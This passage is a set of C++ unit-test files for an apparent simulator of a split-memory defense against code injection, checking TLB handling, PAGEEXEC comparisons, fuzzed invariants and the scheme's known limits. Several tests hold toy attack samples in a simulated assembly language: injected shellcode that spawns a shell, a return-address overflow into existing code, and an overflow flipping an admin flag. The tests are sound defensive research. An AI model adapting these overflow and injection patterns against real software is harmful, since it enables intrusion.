      s.split_dtlb_loads, s.split_itlb_loads, s.split_dtlb_fallbacks,
      s.single_steps,    s.demand_pages,      s.cow_copies,
      s.syscalls,        s.invalid_opcode_faults,
      s.context_switches, s.injections_detected};
}

TEST(DbtSplit, SplitRunStatsIdenticalWithAndWithoutDbt) {
  kernel::KernelConfig with_dbt;
  with_dbt.dbt = true;
  kernel::KernelConfig without_dbt;
  without_dbt.dbt = false;

  auto a = start_guest(kStoreLoop, ProtectionMode::kSplitAll,
                       core::ResponseMode::kBreak, with_dbt);
  auto b = start_guest(kStoreLoop, ProtectionMode::kSplitAll,
                       core::ResponseMode::kBreak, without_dbt);
  a.k->run(200'000);
  b.k->run(200'000);

  EXPECT_EQ(sim_stats(a.k->stats()), sim_stats(b.k->stats()));
  EXPECT_EQ(live_regs(a).r[0], live_regs(b).r[0]);
  EXPECT_EQ(live_regs(a).pc, live_regs(b).pc);
  EXPECT_EQ(b.k->stats().block_cache_hits, 0u)
      << "KernelConfig::dbt=false must disable the block engine";
}

TEST(DbtSplit, WalkFailureRunStatsIdenticalWithAndWithoutDbt) {
  // Same identity under the harshest per-instruction regime: every 2nd
  // kernel D-TLB fill fails into the single-step fallback.
  kernel::KernelConfig without_dbt;
  without_dbt.dbt = false;

  auto a = start_guest(kStoreLoop, ProtectionMode::kSplitAll);
  auto b = start_guest(kStoreLoop, ProtectionMode::kSplitAll,
                       core::ResponseMode::kBreak, without_dbt);
  a.k->mmu().set_walk_failure_period(2);
  b.k->mmu().set_walk_failure_period(2);
  a.k->run(400'000);
  b.k->run(400'000);

  EXPECT_EQ(sim_stats(a.k->stats()), sim_stats(b.k->stats()));
  EXPECT_EQ(live_regs(a).r[0], live_regs(b).r[0]);
  EXPECT_EQ(live_regs(a).pc, live_regs(b).pc);
}

}  // namespace
}  // namespace sm
