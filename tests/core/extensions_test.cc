// Tests for the paper's secondary mechanisms and documented limitations:
//  - footnote 1: single-step fallback when the D-TLB pagetable walk fails
//  - §4.2.4 side note: the abandoned ret-call I-TLB load method
//  - §4.7: software-managed TLBs (SPARC-style) with direct TLB loads
//  - §7: attacks split memory does NOT stop (return-to-existing-code,
//    non-control-data) and the self-modifying-code limitation
#include <gtest/gtest.h>

#include <algorithm>

#include "attacks/shellcode.h"
#include "support/guest_runner.h"

namespace sm {
namespace {

using arch::u32;
using core::ItlbLoadMethod;
using core::ProtectionMode;
using kernel::ExitKind;
using testing::run_guest;
using testing::start_guest;

const char* kComputeLoop = R"(
_start:
  movi r4, buf
  movi r5, 0
  movi r2, 0
loop:
  store [r4], r5
  load r3, [r4]
  add r2, r3
  addi r4, 4
  addi r5, 1
  cmpi r5, 3000
  jnz loop
  movi r0, SYS_EXIT
  movi r1, 0
  syscall
.bss
buf: .space 16384
)";

// --- footnote 1: D-TLB walk failure fallback ------------------------------

TEST(Footnote1, WalkFailureFallsBackToSingleStep) {
  auto r = start_guest(kComputeLoop, ProtectionMode::kSplitAll);
  r.k->mmu().set_walk_failure_period(3);  // every 3rd walk-fill fails
  r.k->run(10'000'000);
  ASSERT_TRUE(r.k->all_exited());
  EXPECT_EQ(r.proc().exit_kind, ExitKind::kExited);
  const auto& s = r.k->stats();
  EXPECT_GT(s.split_dtlb_fallbacks, 0u);
  // The fallback single-steps, so there are more debug interrupts than
  // I-TLB loads alone would cause.
  EXPECT_GT(s.single_steps, s.split_itlb_loads);
}

TEST(Footnote1, FallbackStillRestrictsThePte) {
  const char* body = R"(
_start:
  movi r4, buf
  load r5, [r4]
  jmp spin
spin:
  jmp spin
.bss
buf: .space 64
)";
  auto r = start_guest(body, ProtectionMode::kSplitAll);
  r.k->mmu().set_walk_failure_period(1);  // every walk-fill fails
  r.k->run(2'000);
  const auto program = assembler::assemble(guest::program(body));
  const arch::Pte pte = r.proc().as->pt().get(program.symbol("buf"));
  ASSERT_TRUE(pte.present());
  EXPECT_FALSE(pte.user()) << "debug handler must re-restrict after the "
                              "fallback";
  EXPECT_FALSE(r.proc().pending_split_vaddr.has_value());
}

TEST(Footnote1, SecurityHoldsUnderConstantFallback) {
  const char* inject = R"(
_start:
  movi r1, buf
  movi r2, payload
  movi r3, payload_end
  sub r3, r2
  call memcpy
  movi r5, buf
  jmpr r5
.data
payload:
  movi r0, SYS_SPAWN_SHELL
  syscall
payload_end: .byte 0
.bss
buf: .space 128
)";
  auto r = start_guest(inject, ProtectionMode::kSplitAll);
  r.k->mmu().set_walk_failure_period(1);
  r.k->run(10'000'000);
  EXPECT_FALSE(r.proc().shell_spawned);
  EXPECT_EQ(r.k->detections().size(), 1u);
}

// --- §4.2.4: the ret-call I-TLB load --------------------------------------

core::SplitMemoryEngine* split_engine(kernel::Kernel& k) {
  return dynamic_cast<core::SplitMemoryEngine*>(&k.engine());
}

TEST(RetCallItlbLoad, CorrectButNoSingleStepping) {
  auto r = start_guest(kComputeLoop, ProtectionMode::kSplitAll);
  split_engine(*r.k)->set_itlb_load_method(ItlbLoadMethod::kRetCall);
  r.k->run(10'000'000);
  ASSERT_TRUE(r.k->all_exited());
  EXPECT_EQ(r.proc().exit_kind, ExitKind::kExited);
  EXPECT_GT(r.k->stats().split_itlb_loads, 0u);
  EXPECT_EQ(r.k->stats().single_steps, 0u);
}

TEST(RetCallItlbLoad, SlowerThanSingleStepAsThePaperFound) {
  // "surprisingly this actually decreased the system's efficiency" — the
  // i-cache coherency penalty outweighs the saved debug interrupt.
  auto single = run_guest(kComputeLoop, ProtectionMode::kSplitAll);

  auto retcall = start_guest(kComputeLoop, ProtectionMode::kSplitAll);
  split_engine(*retcall.k)->set_itlb_load_method(ItlbLoadMethod::kRetCall);
  retcall.k->run(50'000'000);
  ASSERT_TRUE(retcall.k->all_exited());
  EXPECT_GT(retcall.k->stats().cycles, single.k->stats().cycles);
}

TEST(RetCallItlbLoad, StillFoilsInjection) {
  const char* inject = R"(
_start:
  movi r1, buf
  movi r2, payload
  movi r3, payload_end
  sub r3, r2
  call memcpy
  movi r5, buf
  jmpr r5
.data
payload:
  movi r0, SYS_SPAWN_SHELL
  syscall
payload_end: .byte 0
.bss
buf: .space 128
)";
  auto r = start_guest(inject, ProtectionMode::kSplitAll);
  split_engine(*r.k)->set_itlb_load_method(ItlbLoadMethod::kRetCall);
  r.k->run(10'000'000);
  EXPECT_FALSE(r.proc().shell_spawned);
  EXPECT_EQ(r.k->detections().size(), 1u);
}

// --- §4.7: software-managed TLBs -------------------------------------------

testing::GuestRun run_soft_tlb(const char* body, ProtectionMode mode) {
  kernel::KernelConfig cfg;
  cfg.software_tlb = true;
  testing::GuestRun r = start_guest(body, mode, core::ResponseMode::kBreak,
                                    cfg);
  r.k->run(100'000'000);
  return r;
}

TEST(SoftwareTlb, PlainProgramsRunCorrectly) {
  auto r = run_soft_tlb(kComputeLoop, ProtectionMode::kNone);
  ASSERT_TRUE(r.k->all_exited());
  EXPECT_EQ(r.proc().exit_kind, ExitKind::kExited);
  EXPECT_GT(r.k->stats().soft_tlb_fills, 0u);
  EXPECT_EQ(r.k->stats().hardware_walks, 0u);  // no hardware walker
}

TEST(SoftwareTlb, SplitMemoryRunsWithoutSingleStepping) {
  auto r = run_soft_tlb(kComputeLoop, ProtectionMode::kSplitAll);
  ASSERT_TRUE(r.k->all_exited());
  EXPECT_EQ(r.proc().exit_kind, ExitKind::kExited);
  // "no need for complex data or instruction TLB loading techniques":
  // zero debug interrupts, zero full page faults for TLB loads.
  EXPECT_EQ(r.k->stats().single_steps, 0u);
  EXPECT_GT(r.k->stats().split_itlb_loads, 0u);
  EXPECT_GT(r.k->stats().split_dtlb_loads, 0u);
}

TEST(SoftwareTlb, StillFoilsInjection) {
  const char* inject = R"(
_start:
  movi r1, buf
  movi r2, payload
  movi r3, payload_end
  sub r3, r2
  call memcpy
  movi r5, buf
  jmpr r5
.data
payload:
  movi r0, SYS_SPAWN_SHELL
  syscall
payload_end: .byte 0
.bss
buf: .space 128
)";
  auto r = run_soft_tlb(inject, ProtectionMode::kSplitAll);
  EXPECT_FALSE(r.proc().shell_spawned);
  EXPECT_EQ(r.k->detections().size(), 1u);
}

TEST(SoftwareTlb, OverheadIsNoticeablyLowerThanX86) {
  // Paper §4.7: "the performance overhead imposed on such a system would
  // be noticeably lower". Compare split-vs-base overhead on each
  // architecture style.
  auto x86_base = run_guest(kComputeLoop, ProtectionMode::kNone);
  auto x86_split = run_guest(kComputeLoop, ProtectionMode::kSplitAll);
  auto sparc_base = run_soft_tlb(kComputeLoop, ProtectionMode::kNone);
  auto sparc_split = run_soft_tlb(kComputeLoop, ProtectionMode::kSplitAll);

  const double x86_overhead =
      static_cast<double>(x86_split.k->stats().cycles) /
      x86_base.k->stats().cycles;
  const double sparc_overhead =
      static_cast<double>(sparc_split.k->stats().cycles) /
      sparc_base.k->stats().cycles;
  EXPECT_GT(x86_overhead, 1.0);
  EXPECT_LT(sparc_overhead, x86_overhead);
  EXPECT_LT(sparc_overhead, 1.02);  // near-zero extra cost on SPARC-style
}

// --- benign equivalence via the new observability surface -------------------

TEST(Observability, TraceAndDigestMatchAcrossEngines) {
  // The differential-fuzz contract at unit scale: a benign program's
  // syscall trace and final-memory digest are engine-invariant. This is
  // what GuestRun::syscall_trace()/final_digest() exist to assert.
  const char* body = R"(
_start:
  movi r0, SYS_GETPID
  syscall
  movi r4, buf
  store [r4], r0
  movi r0, SYS_WRITE
  movi r1, FD_CONSOLE
  movi r2, msg
  movi r3, 3
  syscall
  movi r0, SYS_EXIT
  movi r1, 0
  syscall
.data
msg: .ascii "ok\n"
.bss
buf: .space 16
)";
  auto base = run_guest(body, ProtectionMode::kNone);
  auto split = run_guest(body, ProtectionMode::kSplitAll);
  ASSERT_TRUE(base.k->all_exited());
  ASSERT_TRUE(split.k->all_exited());
  ASSERT_GE(base.syscall_trace().size(), 3u);
  EXPECT_EQ(base.syscall_trace(), split.syscall_trace());
  ASSERT_TRUE(base.final_digest().has_value());
  ASSERT_TRUE(split.final_digest().has_value());
  EXPECT_EQ(*base.final_digest(), *split.final_digest());
  EXPECT_EQ(base.console(), split.console());
}

// --- §7: documented limitations (negative results) --------------------------

TEST(Limitations, ReturnToExistingCodeIsNotStopped) {
  // "modifying a function's return address to point to a different part
  // of the original code pages will not be stopped by this scheme."
  const char* body = R"(
_start:
  movi r2, 256
  sub sp, r2              ; headroom above the vulnerable frame
  movi r1, FD_NET
  movi r2, staging
  movi r3, 600
  call read_line
  call handler
  movi r0, SYS_EXIT
  movi r1, 1
  syscall
handler:
  push fp
  mov fp, sp
  movi r2, 72
  sub sp, r2
  mov r1, fp
  movi r2, 72
  sub r1, r2
  movi r2, staging
  call strcpy
  mov sp, fp
  pop fp
  ret
; existing, legitimate (but dangerous) code in the binary's text:
  .space 32, 0x90
secret_admin_mode:
  movi r0, SYS_SPAWN_SHELL
  syscall
  movi r0, SYS_EXIT
  movi r1, 0
  syscall
.data
staging: .space 640
)";
  const auto program = assembler::assemble(guest::program(body));
  const u32 target = attacks::pick_string_safe_address(
      program.symbol("secret_admin_mode") - 17, 17);
  auto r = start_guest(body, ProtectionMode::kSplitAll);
  std::string overflow(76, 'A');
  for (int i = 0; i < 4; ++i) {
    overflow.push_back(static_cast<char>(target >> (8 * i)));
  }
  r.chan->host_write(overflow + "\n");
  r.k->run(10'000'000);
  // The attack SUCCEEDS: no code was injected, only existing code reused.
  EXPECT_TRUE(r.proc().shell_spawned);
  EXPECT_TRUE(r.k->detections().empty());
  // The syscall trace is where the hijack IS visible: the victim issued a
  // SYS_SPAWN_SHELL its source never reaches on the benign path.
  const auto& trace = r.syscall_trace();
  EXPECT_TRUE(std::any_of(trace.begin(), trace.end(),
                          [](const kernel::SyscallRecord& s) {
                            return s.num == kernel::kSysSpawnShell;
                          }));
}

TEST(Limitations, NonControlDataAttackIsNotStopped) {
  // §3.2/§7: non-control-data attacks "are also not protected by this
  // system" — here the overflow flips an is_admin flag; no control flow
  // is hijacked and no code is injected.
  const char* body = R"(
_start:
  movi r1, FD_NET
  movi r2, namebuf
  movi r3, 128
  call read_line
  ; authentication "logic"
  movi r4, is_admin
  load r5, [r4]
  cmpi r5, 0
  jnz grant
  movi r0, SYS_EXIT
  movi r1, 1
  syscall
grant:
  movi r0, SYS_SPAWN_SHELL
  syscall
  movi r0, SYS_EXIT
  movi r1, 0
  syscall
.data
namebuf: .space 16        ; fixed 16-byte name field...
is_admin: .word 0         ; ...directly before the privilege flag
)";
  auto r = start_guest(body, ProtectionMode::kSplitAll);
  r.chan->host_write(std::string(20, 'A') + "\n");  // overflows into the flag
  r.k->run(10'000'000);
  EXPECT_TRUE(r.proc().shell_spawned);
  EXPECT_TRUE(r.k->detections().empty());
}

TEST(Limitations, SelfModifyingCodeCannotSeeItsPatches) {
  // §7: "self-modifying programs cannot be protected using our technique"
  // — runtime writes go to the data frame; fetch keeps seeing the old
  // bytes. The guest patches an instruction and checks which version ran.
  const char* body = R"(
_start:
  ; patch the movi at 'slot' to load 77 instead of 11
  movi r4, slot+2
  movi r5, 77
  storeb [r4], r5
slot:
  movi r1, 11
  movi r0, SYS_EXIT
  syscall
)";
  testing::GuestRun plain;
  plain.k = std::make_unique<kernel::Kernel>();
  plain.k->set_engine(core::make_engine(ProtectionMode::kNone));
  plain.k->register_image(
      testing::build_guest_image(body, "guest", /*mixed_text=*/true));
  plain.pid = plain.k->spawn("guest");
  plain.k->run(10'000'000);
  EXPECT_EQ(plain.proc().exit_code, 77u);  // von Neumann: patch visible

  testing::GuestRun mixed;
  mixed.k = std::make_unique<kernel::Kernel>();
  mixed.k->set_engine(core::make_engine(ProtectionMode::kSplitAll));
  mixed.k->register_image(
      testing::build_guest_image(body, "guest", /*mixed_text=*/true));
  mixed.pid = mixed.k->spawn("guest");
  mixed.k->run(10'000'000);
  EXPECT_EQ(mixed.proc().exit_code, 11u);  // split: fetch sees old code
}

// --- §5.1: eager loading (the paper's prototype) ---------------------------

TEST(EagerLoad, DoublesMemoryAtSpawnUnderSplit) {
  const char* body = R"(
_start:
  jmp spin
spin:
  jmp spin
.bss
buf: .space 32768
)";
  auto spawn_with = [&](ProtectionMode mode, bool eager) {
    kernel::KernelConfig cfg;
    cfg.eager_load = eager;
    testing::GuestRun r =
        start_guest(body, mode, core::ResponseMode::kBreak, cfg);
    return r;  // NOT run: frames counted at load time
  };

  auto demand = spawn_with(ProtectionMode::kSplitAll, false);
  auto eager_plain = spawn_with(ProtectionMode::kNone, true);
  auto eager_split = spawn_with(ProtectionMode::kSplitAll, true);

  // Demand paging: almost nothing mapped before the first instruction.
  EXPECT_LT(demand.k->phys().frames_in_use(), 8u);
  // Eager: the full image (text+data+bss+stack) resident...
  EXPECT_GT(eager_plain.k->phys().frames_in_use(), 70u);
  // ...and "the memory usage of an application is effectively doubled"
  // under the splitting prototype (§5.1), minus shared page-table frames.
  EXPECT_GT(eager_split.k->phys().frames_in_use(),
            eager_plain.k->phys().frames_in_use() * 3 / 2);
}

TEST(EagerLoad, ProgramsStillRunCorrectly) {
  kernel::KernelConfig cfg;
  cfg.eager_load = true;
  auto r = start_guest(R"(
_start:
  movi r4, buf
  movi r5, 17
  store [r4], r5
  load r1, [r4]
  movi r0, SYS_EXIT
  syscall
.bss
buf: .space 4096
)",
                       ProtectionMode::kSplitAll, core::ResponseMode::kBreak,
                       cfg);
  r.k->run(10'000'000);
  EXPECT_EQ(r.proc().exit_code, 17u);
  // No demand faults during execution: everything was pre-populated.
  // (TLB loads still happen; demand_pages counted at load only.)
}

TEST(EagerLoad, FramesStillReclaimedOnExit) {
  kernel::KernelConfig cfg;
  cfg.eager_load = true;
  auto r = start_guest(R"(
_start:
  movi r0, SYS_EXIT
  movi r1, 0
  syscall
)",
                       ProtectionMode::kSplitAll, core::ResponseMode::kBreak,
                       cfg);
  r.k->run(10'000'000);
  ASSERT_TRUE(r.k->all_exited());
  EXPECT_EQ(r.k->phys().frames_in_use(), 0u);
}

}  // namespace
}  // namespace sm
