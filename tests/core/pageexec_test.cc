// PaX PAGEEXEC baseline (paper ref [2]): software-only execute-disable via
// the supervisor bit + D-TLB loads — same security envelope as the
// hardware bit (stops classic injection, cannot protect mixed pages),
// with software-load overhead between hardware-NX and full splitting.
#include <gtest/gtest.h>

#include "support/guest_runner.h"

namespace sm {
namespace {

using core::ProtectionMode;
using kernel::ExitKind;
using testing::run_guest;

const char* kSelfInject = R"(
_start:
  movi r1, buf
  movi r2, payload
  movi r3, payload_end
  sub r3, r2
  call memcpy
  movi r5, buf
  jmpr r5
.data
payload:
  movi r0, SYS_SPAWN_SHELL
  syscall
payload_end: .byte 0
.bss
buf: .space 128
)";

TEST(Pageexec, FoilsClassicInjection) {
  auto r = run_guest(kSelfInject, ProtectionMode::kPaxPageexec);
  EXPECT_FALSE(r.proc().shell_spawned);
  EXPECT_EQ(r.proc().exit_kind, ExitKind::kKilledSigsegv);
  ASSERT_EQ(r.k->detections().size(), 1u);
  EXPECT_EQ(r.k->detections()[0].mode, "pageexec");
}

TEST(Pageexec, BenignProgramsRunIdentically) {
  const char* body = R"(
_start:
  movi r4, buf
  movi r5, 0
  movi r2, 0
loop:
  store [r4], r5
  load r3, [r4]
  add r2, r3
  addi r4, 4
  addi r5, 1
  cmpi r5, 2000
  jnz loop
  mov r1, r2
  movi r0, SYS_EXIT
  syscall
.bss
buf: .space 8192
)";
  auto base = run_guest(body, ProtectionMode::kNone);
  auto pax = run_guest(body, ProtectionMode::kPaxPageexec);
  EXPECT_EQ(pax.proc().exit_code, base.proc().exit_code);
  EXPECT_EQ(pax.proc().exit_kind, ExitKind::kExited);
}

TEST(Pageexec, OverheadBetweenHardwareNxAndSplitAll) {
  // PAGEEXEC pays a trap per D-TLB miss on data pages but nothing on code
  // fetches; split-all pays on both sides.
  const char* body = R"(
_start:
  movi r3, 3
pass:
  movi r4, buf
  movi r5, 100
touch:
  load r2, [r4]
  addi r4, 4096
  addi r5, -1
  cmpi r5, 0
  jnz touch
  addi r3, -1
  cmpi r3, 0
  jnz pass
  movi r0, SYS_EXIT
  movi r1, 0
  syscall
.bss
buf: .space 409600
)";
  const auto nx = run_guest(body, ProtectionMode::kHardwareNx);
  const auto pax = run_guest(body, ProtectionMode::kPaxPageexec);
  const auto split = run_guest(body, ProtectionMode::kSplitAll);
  EXPECT_GT(pax.k->stats().cycles, nx.k->stats().cycles);
  EXPECT_LT(pax.k->stats().cycles, split.k->stats().cycles);
  EXPECT_GT(pax.k->stats().split_dtlb_loads, 100u);  // the PAGEEXEC loads
}

TEST(Pageexec, CannotProtectMixedPages) {
  // Same limitation as the hardware bit (and the paper's motivation):
  // a writable text page must stay executable.
  const char* body = R"(
_start:
  movi r1, hole
  movi r2, payload
  movi r3, payload_end
  sub r3, r2
  call memcpy
  movi r5, hole
  jmpr r5
hole:
  .space 64
.data
payload:
  movi r0, SYS_SPAWN_SHELL
  syscall
  movi r0, SYS_EXIT
  movi r1, 0
  syscall
payload_end: .byte 0
)";
  testing::GuestRun r;
  r.k = std::make_unique<kernel::Kernel>();
  r.k->set_engine(core::make_engine(ProtectionMode::kPaxPageexec));
  r.k->register_image(
      testing::build_guest_image(body, "guest", /*mixed_text=*/true));
  r.pid = r.k->spawn("guest");
  r.k->run(10'000'000);
  EXPECT_TRUE(r.proc().shell_spawned);  // the gap PAGEEXEC shares with NX
}

TEST(Pageexec, WorksUnderSoftwareTlbToo) {
  kernel::KernelConfig cfg;
  cfg.software_tlb = true;
  auto r = testing::start_guest(kSelfInject, ProtectionMode::kPaxPageexec,
                                core::ResponseMode::kBreak, cfg);
  r.k->run(10'000'000);
  EXPECT_FALSE(r.proc().shell_spawned);
  EXPECT_EQ(r.proc().exit_kind, ExitKind::kKilledSigsegv);
}

TEST(Pageexec, FramesReclaimedOnExit) {
  auto r = run_guest(kSelfInject, ProtectionMode::kPaxPageexec);
  EXPECT_EQ(r.k->phys().frames_in_use(), 0u);
}

}  // namespace
}  // namespace sm
