// Property-based tests of the system invariants (DESIGN.md §6), fuzzed
// with deterministic seeds:
//  1. SECURITY: on split pages, user writes can never change what fetch
//     sees.
//  2. TRANSPARENCY: benign programs behave identically under every engine.
//  3. TLB COHERENCE: outside split pages the TLBs never disagree with the
//     page tables.
//  4. ACCOUNTING: no frame leaks, whatever the program did.
#include <gtest/gtest.h>

#include <random>
#include <sstream>

#include "support/guest_runner.h"

namespace sm {
namespace {

using arch::u32;

using core::ProtectionMode;
using testing::run_guest;

// --- random benign program generator --------------------------------------

// Emits a random straight-line program over r0-r3 with loads/stores into a
// scratch buffer (r4 = base), folding everything into the exit code.
std::string random_program(u32 seed, int length) {
  std::mt19937 rng(seed);
  std::ostringstream out;
  out << "_start:\n  movi r4, scratch\n";
  for (int r = 0; r < 4; ++r) {
    out << "  movi r" << r << ", " << rng() % 1000 << "\n";
  }
  for (int i = 0; i < length; ++i) {
    const int a = rng() % 4;
    const int b = rng() % 4;
    const u32 off = (rng() % 1000) * 4;
    switch (rng() % 10) {
      case 0:
        out << "  add r" << a << ", r" << b << "\n";
        break;
      case 1:
        out << "  sub r" << a << ", r" << b << "\n";
        break;
      case 2:
        out << "  mul r" << a << ", r" << b << "\n";
        break;
      case 3:
        out << "  xor r" << a << ", r" << b << "\n";
        break;
      case 4:
        out << "  addi r" << a << ", " << rng() % 100000 << "\n";
        break;
      case 5:
        out << "  store [r4+" << off << "], r" << a << "\n";
        break;
      case 6:
        out << "  load r" << a << ", [r4+" << off << "]\n";
        break;
      case 7:
        out << "  storeb [r4+" << off << "], r" << a << "\n";
        break;
      case 8:
        out << "  push r" << a << "\n  pop r" << b << "\n";
        break;
      case 9: {
        const u32 shift = rng() % 31 + 1;
        out << "  movi r" << b << ", " << shift << "\n  shr r" << a << ", r"
            << b << "\n";
        break;
      }
    }
  }
  out << R"(
  add r0, r1
  add r0, r2
  add r0, r3
  movi r1, FD_CONSOLE
  mov r2, r0
  push r2
  movi r1, FD_CONSOLE
  pop r2
  call put_hex_fd
  mov r1, r0
  movi r0, SYS_EXIT
  syscall
.bss
scratch: .space 8192
)";
  return out.str();
}

struct Observed {
  kernel::ExitKind kind;
  u32 code;
  std::string console;
  arch::u64 instructions;
};

Observed observe(const std::string& body, ProtectionMode mode) {
  auto r = run_guest(body, mode);
  return {r.proc().exit_kind, r.proc().exit_code, r.proc().console,
          r.k->stats().instructions};
}

class TransparencyFuzz : public ::testing::TestWithParam<u32> {};

TEST_P(TransparencyFuzz, AllEnginesProduceIdenticalResults) {
  const std::string body = random_program(GetParam(), 120);
  const Observed base = observe(body, ProtectionMode::kNone);
  ASSERT_EQ(base.kind, kernel::ExitKind::kExited);
  for (const auto mode :
       {ProtectionMode::kSplitAll, ProtectionMode::kHardwareNx,
        ProtectionMode::kNxPlusSplitMixed}) {
    const Observed other = observe(body, mode);
    EXPECT_EQ(other.kind, base.kind) << core::to_string(mode);
    EXPECT_EQ(other.code, base.code) << core::to_string(mode);
    EXPECT_EQ(other.console, base.console) << core::to_string(mode);
    EXPECT_EQ(other.instructions, base.instructions) << core::to_string(mode);
  }
}

INSTANTIATE_TEST_SUITE_P(Seeds, TransparencyFuzz,
                         ::testing::Range(1u, 21u));

class FractionTransparencyFuzz : public ::testing::TestWithParam<u32> {};

TEST_P(FractionTransparencyFuzz, PartialSplittingIsAlsoTransparent) {
  const std::string body = random_program(GetParam() * 977, 80);
  const Observed base = observe(body, ProtectionMode::kNone);
  ASSERT_EQ(base.kind, kernel::ExitKind::kExited);
  for (const u32 pct : {10u, 50u, 90u}) {
    testing::GuestRun r;
    r.k = std::make_unique<kernel::Kernel>();
    r.k->set_engine(std::make_unique<core::SplitMemoryEngine>(
        core::SplitPolicy::fraction(pct, GetParam())));
    r.k->register_image(testing::build_guest_image(body));
    r.pid = r.k->spawn("guest");
    r.k->run(50'000'000);
    EXPECT_EQ(r.proc().exit_code, base.code) << pct << "%";
    EXPECT_EQ(r.proc().console, base.console) << pct << "%";
  }
}

INSTANTIATE_TEST_SUITE_P(Seeds, FractionTransparencyFuzz,
                         ::testing::Range(1u, 9u));

// --- security invariant -----------------------------------------------------

class SecurityFuzz : public ::testing::TestWithParam<u32> {};

TEST_P(SecurityFuzz, WritesNeverReachTheFetchPath) {
  // The guest fills a buffer with RANDOM bytes (some of which are valid
  // opcodes, even NOP sleds) and jumps into it at a random offset. Under
  // split memory this must NEVER execute attacker bytes: the process dies
  // (or, if the code frame bytes at that point happen to equal the data —
  // impossible here since the buffer page's code frame is zero-filled).
  std::mt19937 rng(GetParam());
  std::ostringstream fill;
  const int n = 64;
  fill << "_start:\n  movi r4, buf\n";
  for (int i = 0; i < n; ++i) {
    fill << "  movi r5, " << rng() % 256 << "\n  storeb [r4+" << i
         << "], r5\n";
  }
  fill << "  movi r5, buf+" << rng() % n << "\n  jmpr r5\n"
       << "  movi r0, SYS_EXIT\n  movi r1, 0\n  syscall\n"
       << ".bss\nbuf: .space 4096\n";

  auto r = run_guest(fill.str(), ProtectionMode::kSplitAll);
  EXPECT_FALSE(r.proc().shell_spawned);
  EXPECT_NE(r.proc().exit_kind, kernel::ExitKind::kExited);
  // And the fetch path saw the pristine code frame: the injected bytes are
  // visible through the DATA view only.
  // (Detection may or may not fire depending on whether the jump target
  // decodes to an invalid opcode; dying without executing is the invariant.)
}

INSTANTIATE_TEST_SUITE_P(Seeds, SecurityFuzz, ::testing::Range(1u, 13u));

// --- TLB coherence ----------------------------------------------------------

TEST(TlbCoherence, NonSplitPagesNeverDesynchronize) {
  const char* body = R"(
_start:
  movi r4, buf
  movi r5, 0
loop:
  store [r4], r5
  load r2, [r4]
  addi r4, 4096
  addi r5, 1
  cmpi r5, 8
  jnz loop
  movi r0, SYS_EXIT
  movi r1, 0
  syscall
.bss
buf: .space 32768
)";
  testing::GuestRun r = testing::start_guest(body, ProtectionMode::kNone);
  r.k->run(100'000);
  // For every mapped page: any cached TLB entry agrees with the PTE.
  kernel::Process& p = r.proc();
  if (p.as != nullptr) {
    p.as->pt().for_each_mapping([&](u32 vaddr, arch::Pte pte) {
      const u32 vpn = arch::vpn_of(vaddr);
      if (const auto e = r.k->mmu().dtlb().peek(vpn)) {
        EXPECT_EQ(e->pfn, pte.pfn()) << "D-TLB stale for " << std::hex
                                     << vaddr;
      }
      if (const auto e = r.k->mmu().itlb().peek(vpn)) {
        EXPECT_EQ(e->pfn, pte.pfn()) << "I-TLB stale for " << std::hex
                                     << vaddr;
      }
    });
  }
}

TEST(TlbCoherence, SplitPagesDesynchronizeExactlyAsIntended) {
  // Under split memory, a page that both executed and was read has the
  // I-TLB pointing at the code frame and the D-TLB at the data frame.
  const char* body = R"(
_start:
  movi r4, _start
  load r5, [r4]           ; read our own text page as data
  jmp spin
spin:
  jmp spin
)";
  kernel::KernelConfig cfg;
  cfg.cores = 1;  // the assertions inspect THE core's TLBs
  testing::GuestRun r = testing::start_guest(
      body, ProtectionMode::kSplitAll, core::ResponseMode::kBreak, cfg);
  r.k->run(1'000);
  kernel::Process& p = r.proc();
  const auto program =
      assembler::assemble(guest::program(body));
  const u32 vpn = arch::vpn_of(program.symbol("_start"));
  const auto* pair = p.as->split_pair(vpn);
  ASSERT_NE(pair, nullptr);
  const auto ie = r.k->mmu().itlb().peek(vpn);
  const auto de = r.k->mmu().dtlb().peek(vpn);
  ASSERT_TRUE(ie.has_value());
  ASSERT_TRUE(de.has_value());
  EXPECT_EQ(ie->pfn, pair->code_frame);
  EXPECT_EQ(de->pfn, pair->data_frame);
  EXPECT_NE(ie->pfn, de->pfn);
}

// --- accounting ------------------------------------------------------------

class AccountingFuzz : public ::testing::TestWithParam<u32> {};

TEST_P(AccountingFuzz, NoFrameLeaksEver) {
  const std::string body = random_program(GetParam() * 31, 60);
  for (const auto mode : {ProtectionMode::kNone, ProtectionMode::kSplitAll,
                          ProtectionMode::kNxPlusSplitMixed}) {
    auto r = run_guest(body, mode);
    ASSERT_TRUE(r.k->all_exited());
    EXPECT_EQ(r.k->phys().frames_in_use(), 0u) << core::to_string(mode);
  }
}

INSTANTIATE_TEST_SUITE_P(Seeds, AccountingFuzz, ::testing::Range(1u, 9u));

// --- fault-protocol termination ---------------------------------------------

TEST(Termination, SplitFaultsPerInstructionAreBounded) {
  // Worst-case instruction: fetch on one split page + data access on
  // another, both cold. Must complete with a bounded number of traps.
  const char* body = R"(
_start:
  movi r4, buf
  load r5, [r4]
  movi r0, SYS_EXIT
  movi r1, 0
  syscall
.bss
buf: .space 64
)";
  auto r = run_guest(body, ProtectionMode::kSplitAll);
  ASSERT_TRUE(r.k->all_exited());
  const auto& s = r.k->stats();
  // A handful of pages; generous bound that still catches livelock.
  EXPECT_LT(s.page_faults, 40u);
  EXPECT_LT(s.single_steps, 10u);
}

TEST(Termination, InstructionReadingItsOwnPageTerminates) {
  // The corner case the paper's Algorithm 1 classifies by "addr == EIP":
  // a LOAD whose data operand is its own instruction page. Must terminate
  // (and, as in the paper, the data read is served from the code frame
  // while the PTE is unrestricted for the single-step).
  const char* body = R"(
_start:
  movi r4, _start
  load r5, [r4]
  mov r1, r5
  movi r0, SYS_EXIT
  syscall
)";
  auto r = run_guest(body, ProtectionMode::kSplitAll);
  ASSERT_TRUE(r.k->all_exited());
  EXPECT_EQ(r.proc().exit_kind, kernel::ExitKind::kExited);
  // The word read is the first instruction's own encoding (movi r4, imm).
  EXPECT_EQ(r.proc().exit_code & 0xFFu, 0x01u);
}

}  // namespace
}  // namespace sm
