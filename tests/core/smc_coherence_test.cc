// Self-modifying-code coherence: the host-side decoded-instruction cache
// must never change GUEST-visible semantics. On an unsplit (von Neumann)
// page a guest store over already-executed code must be picked up by the
// next fetch; on a split page the same store must NOT be (the paper's
// Harvard guarantee) — and the decode cache, being keyed by physical
// address of the *code* frame, gets that for free. Forensics mode writes
